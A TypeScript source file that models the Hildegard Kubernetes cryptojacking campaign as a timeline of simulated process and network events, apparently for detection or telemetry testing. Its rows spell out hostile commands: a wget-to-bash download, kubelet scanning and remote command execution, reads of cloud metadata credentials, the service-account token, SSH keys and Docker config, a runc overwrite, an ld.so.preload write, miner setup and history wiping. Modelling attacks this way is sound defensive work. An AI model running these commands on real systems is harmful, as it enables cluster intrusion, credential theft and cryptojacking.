import { denied, list } from './calls.ts'
import { api, type Campaign, CURL, enter, OTHER, run, token, VICTIM } from './campaign.ts'
import { mine } from './miner.ts'

export const HILDEGARD: Campaign = {
  id: 'hildegard',
  title: 'Hildegard: through kubelets from pod to pod',
  source: 'Unit 42, 2021',
  victim: 'go',
  evasions: ['imds-v2'],
  unseen: ['1: the request to the kubelet, which the API server does not see'],
  rows: (attack) => {
    const { server, drop, namespace, evades } = attack
    const web = [[server, 80]] as const
    const irc = [[drop, 6667]] as const
    const sweep = Array.from({ length: 24 }, (_, place) => [`10.0.1.${20 + place}`, 10250] as const)
    return [
      ['0:00', 1, enter(VICTIM, `/bin/bash -c 'wget -qO- http://${server}/sGAU.sh | bash'`, { as: 'entry' })],
      ['0:00', 1, run('entry', `/usr/bin/wget -qO- http://${server}/sGAU.sh`, { to: web })],
      ['0:01', 1, run('entry', '/bin/bash', { as: 'script' })],
      ['0:10', 2, run('script', '/usr/bin/tmate -F', { as: 'tmate', to: [['143.198.160.1', 22]] })],
      ['0:30', 2, run('script', '/tmp/.x/bioset', { as: 'irc', to: irc })],
      ['1:30', 3, run('script', '/usr/bin/masscan 10.0.0.0/16 -p10250 --rate 20000', { to: sweep })],
      ['3:00', 3, run('script', `/usr/bin/curl -sk https://10.0.1.22:10250/pods`, { to: [['10.0.1.22', 10250]] })],
      [
        '3:20',
        3,
        run(
          'script',
          `/usr/bin/curl -sk -X POST https://10.0.1.22:10250/run/${attack.other.namespace}/${attack.other.workload}/app -d cmd=id`,
          { to: [['10.0.1.22', 10250]] }
        )
      ],
      ['3:22', 3, enter(OTHER, `/bin/bash -c 'wget -qO- http://${server}/sGAU.sh | bash'`, { as: 'second' })],
      ['3:22', 3, run('second', `/usr/bin/wget -qO- http://${server}/sGAU.sh`, { to: web })],
      ['3:40', 3, run('second', '/tmp/.x/bioset', { as: 'second irc', to: irc })],
      ['4:30', 4, run('script', '/usr/bin/tee /etc/resolv.conf', { writes: ['/etc/resolv.conf'] })],
      ...(evades('imds-v2')
        ? ([
            [
              '4:50',
              4,
              run('script', '/usr/bin/curl -s -X PUT http://169.254.169.254/latest/api/token -m 2', {
                to: [['169.254.169.254', 80]],
                status: 28
              })
            ]
          ] as const)
        : ([
            [
              '4:50',
              4,
              run('script', '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', {
                to: [['169.254.169.254', 80]]
              })
            ]
          ] as const)),
      ['5:10', 4, run('script', '/bin/cat /run/secrets/kubernetes.io/serviceaccount/token', { reads: ['token'] })],
      [
        '5:14',
        4,
        run('script', '/bin/cat /root/.ssh/id_rsa /root/.docker/config.json', {
          reads: ['/root/.ssh/id_rsa', '/root/.docker/config.json']
        })
      ],
      ['5:30', 4, api(token(CURL), list('pods', namespace), denied(list('secrets')), denied(list('nodes')))],
      ['6:40', 5, run('script', '/tmp/.x/botb -autopwn=true', { writes: ['/usr/bin/runc'] })],
      ['7:40', 6, run('script', '/usr/bin/tee /etc/ld.so.preload', { writes: ['/etc/ld.so.preload'] })],
      ['8:20', 7, run('script', '/usr/sbin/useradd -r -s /bin/false monerodaemon')],
      [
        '8:26',
        7,
        run('script', '/usr/bin/tee /etc/systemd/system/monero.service', {
          writes: ['/etc/systemd/system/monero.service']
        })
      ],
      ...mine(attack, '8:40', 7, 'script'),
      ...mine(attack, '8:50', 7, 'second'),
      ['9:30', 7, run('script', "/bin/bash -c 'history -c; rm -f /root/.bash_history'")]
    ]
  }
}
